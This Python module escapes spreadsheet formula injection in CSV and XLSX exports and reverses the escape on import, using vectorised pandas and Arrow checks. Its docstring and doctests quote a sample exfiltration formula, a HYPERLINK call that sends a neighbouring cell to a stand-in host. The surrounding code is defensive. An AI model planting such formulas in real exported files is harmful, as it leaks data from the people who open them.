"""Spreadsheet formula injection (CWE-1236): text that Excel or LibreOffice would run.

A cell starting with ``= + - @``, a tab or a carriage return is evaluated as a formula
when a CSV file is opened in a spreadsheet (``=HYPERLINK("http://x/?"&A1,"click")``
sends the neighbouring cell away). The full-width ``＝ ＋ － ＠`` of a Chinese input
method are treated alike: Excel in East Asian locales may turn them into formula signs
on entry, and escaping them costs nothing. As OWASP recommends, CSV exports prefix
such text with a single quote (and quote every text field); XLSX exports write it as a
text cell marked "quote prefix", which Excel keeps as text even when it is edited.

The CSV escape is undone by our CSV import without any marker in the file: an
exported value gains one ``'`` exactly when it matches ``'*F`` (any quotes, then a
formula sign ``F``), and an imported value loses one exactly when it matches ``'+F``.
Every text therefore comes back as it went out, including text that itself starts
with a quote. A plain number such as ``-12.5`` is never a formula and stays as it is.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

__all__ = ["escape_csv_column", "escape_csv_value", "is_formula_like", "unescape_csv_frame"]

_SIGNS = "=+\\-@\t\r＝＋－＠"
_NEEDS_QUOTE = f"^'*[{_SIGNS}]"
_ESCAPED = f"^'+[{_SIGNS}]"
_NUMBER = "^[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?$"  # Python's re and Arrow's RE2


def is_formula_like(value: str) -> bool:
    """Return whether a spreadsheet could read ``value`` as a formula (or its escape).

    Examples
    --------
    >>> is_formula_like('=HYPERLINK("http://x/?"&A1,"click")'), is_formula_like("-12.5")
    (True, False)
    >>> is_formula_like("'＝1+1"), is_formula_like("天安门")
    (True, False)
    """
    return re.match(_NEEDS_QUOTE, value) is not None and re.match(_NUMBER, value) is None


def escape_csv_value(value: object) -> object:
    """Return ``value`` with a ``'`` in front if it is formula-like text, else as it is.

    Examples
    --------
    >>> escape_csv_value("=1+2"), escape_csv_value("'=1+2"), escape_csv_value(-3)
    ("'=1+2", "''=1+2", -3)
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def escape_csv_column(values: pd.Series) -> pd.Series:
    """Return a column with ``escape_csv_value`` applied (vectorised for text columns)."""
    if pd.api.types.is_numeric_dtype(values.dtype) or pd.api.types.is_bool_dtype(values.dtype):
        return values
    if pd.api.types.infer_dtype(values, skipna=True) != "string":  # mixed: numbers stay
        return pd.Series([escape_csv_value(v) for v in values], index=values.index, dtype=object)
    text = pa.array(values, pa.string(), from_pandas=True)
    formula = pc.and_(pc.match_substring_regex(text, _NEEDS_QUOTE),
                      pc.invert(pc.match_substring_regex(text, _NUMBER)))  # fmt: skip
    needs = np.asarray(pc.fill_null(formula, False))
    if not needs.any():
        return values
    return values.where(~needs, "'" + values.astype(object).where(needs, ""))


def unescape_csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return text columns read from CSV with the quote ``escape_csv_value`` added removed."""
    for column in frame.columns:
        values = frame[column]
        if not isinstance(values.dtype, pd.StringDtype):
            continue
        text = pa.array(values, pa.string(), from_pandas=True)
        if not pc.any(pc.starts_with(text, "'")).as_py():
            continue  # the usual case, found by one vectorised scan
        escaped = np.asarray(pc.fill_null(pc.match_substring_regex(text, _ESCAPED), False))
        frame[column] = values.where(~escaped, values.str.slice(1))
    return frame
